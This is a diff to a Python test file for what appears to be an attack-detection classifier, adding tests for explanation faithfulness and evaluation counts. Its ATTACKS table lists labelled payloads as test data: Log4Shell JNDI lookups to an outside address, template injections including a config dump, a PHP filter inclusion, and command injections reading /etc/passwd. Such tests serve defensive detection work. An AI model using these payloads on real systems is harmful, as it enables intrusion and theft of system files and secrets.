@@ -77,7 +77,7 @@ ATTACKS = {
     "${jndi:ldap://192.0.2.1:1389/a}": "lookup",
     "Mozilla/5.0 ${${::-j}${::-n}di:${lower:l}dap://192.0.2.1/x}": "lookup",
     "{{7*7}}": "template",
-    "<%= system('id') %>": "template",
+    "{% if 7*7 %}{{ config.items() }}{% endif %}": "template",
     "php://filter/convert.base64-encode/resource=index.php": "inclusion",
     "${@print(system('id'))}": "code",
     "';system('cat /etc/passwd');//": "code",
@@ -125,6 +125,14 @@ def test_explanation_points_at_the_attack(query_model: Predictor) -> None:
     assert value[begin:end] == top["value"]
     assert top["weight"] > 0
     assert set(range(begin, end)) & set(range(value.index("union"), value.index(" of course")))
+
+
+def test_without_the_named_characters_a_score_falls_more_than_without_others(query_model: Predictor) -> None:
+    from benchmarks.query import faithful
+
+    better, tried = faithful(query_model, 60)
+    assert tried >= 40
+    assert better >= 0.9 * tried
 
 
 def test_a_value_scores_the_same_alone_and_among_others(query_model: Predictor) -> None:
@@ -256,7 +264,9 @@ def test_a_value_that_is_none_of_the_models_is_refused_and_the_others_are_scored
 def test_explain_shows_why_even_below_the_threshold() -> None:
     found = prediction.explain("query", "hello world", MODELS)
     assert found["score"] < 0.5
-    assert len(found["explanation"]) == 2
+    *named, rest = found["explanation"]
+    assert 1 <= len(named) <= 3
+    assert rest["field"] == "other characters"
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
@@ -277,7 +287,7 @@ def test_evaluate_values(tmp_path: Path, suffix: str) -> None:
     figures = prediction.evaluate_file("query", path, MODELS)
     card = json.loads((MODELS / "query.json").read_text())
     assert figures == {
-        "rows": 31, "positives": 11, "precision": 1.0, "recall": 1.0, "f1": 1.0, "fpr": 0.0, "auroc": 1.0,
+        "rows": len(ATTACKS) + len(ORDINARY), "positives": len(ATTACKS), "precision": 1.0, "recall": 1.0, "f1": 1.0, "fpr": 0.0, "auroc": 1.0,
         "threshold": card["threshold"], "threshold_source": card["threshold_source"],
     }  # fmt: skip
 
